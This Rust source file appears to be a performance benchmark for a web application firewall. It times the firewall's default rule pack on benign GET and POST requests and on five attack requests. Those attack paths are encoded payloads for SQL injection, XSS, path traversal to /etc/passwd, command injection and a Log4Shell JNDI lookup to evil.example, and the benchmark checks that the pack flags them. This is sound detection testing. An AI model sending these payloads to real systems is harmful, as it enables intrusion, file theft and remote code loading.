//! Judges the peers kit's two benign requests (wrk's `get.lua` GET and
//! `post.lua` 2 KiB JSON POST), or `attack`: the five attacks of
//! `perf/wrk/mix10.lua` in turn, through the embedded default pack with a
//! dataplane `CoreKit`, `N` times each, without any I/O. Run it under
//! callgrind with two values of `N`: the difference over the difference in
//! requests is the instructions the pack adds per request.
//!
//! ```sh
//! cargo build --release -p rampart-perf --example pack_judge
//! valgrind --tool=callgrind target/release/examples/pack_judge get 2000
//! # with the behaviour engine (identity + counters, one address per request):
//! valgrind --tool=callgrind target/release/examples/pack_judge get 2000 behaviour
//! ```

use std::net::{IpAddr, Ipv4Addr};

use rampart_dataplane::behaviour::{CoreCounters, Engine, IdentityConfig, Tracked};
use rampart_dataplane::policy::{Behave, CoreKit, Peer};
use rampart_matcher::ScanLimits;
use rampart_policy_loader::{load, LoadOptions, PackSource};

/// The body wrk's `post.lua` sends (2,070 bytes).
const POST_BODY: &str = include_str!("pack_judge_body.json");

fn main() {
    let mut args = std::env::args().skip(1);
    let load_kind = args.next().unwrap_or_else(|| "get".into());
    let n: usize = args.next().and_then(|s| s.parse().ok()).unwrap_or(1000);
    let policy = load(&LoadOptions {
        packs: vec![PackSource::EmbeddedDefault],
        ..LoadOptions::default()
    })
    .expect("default pack loads")
    .policy;
    let limits = ScanLimits {
        max_request_bytes: 16 * 1024 + 128 * 1024,
        ..ScanLimits::default()
    };
    let mut kit = CoreKit::new(policy, 1, limits).expect("kit");
    let ip = IpAddr::V4(Ipv4Addr::LOCALHOST);
    let body = POST_BODY.trim_end().as_bytes();
    let len = body.len().to_string();
    let get: Vec<(&[u8], &[u8])> = vec![
        (b"Host", b"localhost"),
        (b"User-Agent", b"peers-bench/1.0"),
        (b"Accept", b"application/json"),
    ];
    let post: Vec<(&[u8], &[u8])> = vec![
        (b"Host", b"localhost"),
        (b"User-Agent", b"peers-bench/1.0"),
        (b"Accept", b"application/json"),
        (b"Content-Type", b"application/json"),
        (b"Content-Length", len.as_bytes()),
    ];
    const ATTACKS: [&[u8]; 5] = [
        b"/?id=1%27%20OR%20%271%27=%271",
        b"/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        b"/static/..%2f..%2f..%2fetc%2fpasswd",
        b"/?host=127.0.0.1%3Bcat%20/etc/passwd",
        b"/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    ];
    // `behaviour`: the worker's behaviour engine (identity and counters) takes
    // part, with each request from its own address of 10.0.0.0/8 (so no rate
    // policy fires, and every request updates a table entry).
    let mut engine = (args.next().as_deref() == Some("behaviour")).then(|| {
        let counters = CoreCounters::mesh(1, 64 << 20, 10).pop().expect("one core");
        Engine::new(
            &IdentityConfig::default(),
            &[],
            &[7; 32],
            std::hash::RandomState::new(),
            Some(counters),
            std::time::Instant::now(),
        )
    });
    let started = std::time::Instant::now();
    for i in 0..n {
        let attack = load_kind == "attack";
        let ip = match engine {
            Some(_) => IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + i as u32)),
            None => ip,
        };
        let mut tracked = Tracked::default();
        let behave = engine.as_mut().map(|engine| Behave {
            engine,
            tracked: &mut tracked,
            count: true,
            peer_trusted: false,
        });
        match load_kind.as_str() {
            "get" => kit.judge(b"GET", b"/", &get, b"", false, Peer::plain(ip), 0, behave),
            "attack" => kit.judge(
                b"GET",
                ATTACKS[i % ATTACKS.len()],
                &get,
                b"",
                false,
                Peer::plain(ip),
                0,
                behave,
            ),
            _ => kit.judge(
                b"POST",
                b"/",
                &post,
                body,
                false,
                Peer::plain(ip),
                body.len() as u64,
                behave,
            ),
        }
        .expect("judged");
        assert_eq!(
            kit.verdict.decision.is_some(),
            attack,
            "request {i} judged wrongly"
        );
    }
    let per_request = started.elapsed().as_nanos() as f64 / n.max(1) as f64;
    let hits: Vec<&str> = kit
        .verdict
        .hits
        .iter()
        .map(|h| kit.policy.policies[h.policy].id.as_str())
        .collect();
    println!(
        "{load_kind}: {n} requests judged in {per_request:.0} ns each, policies matched: {hits:?}"
    );
}
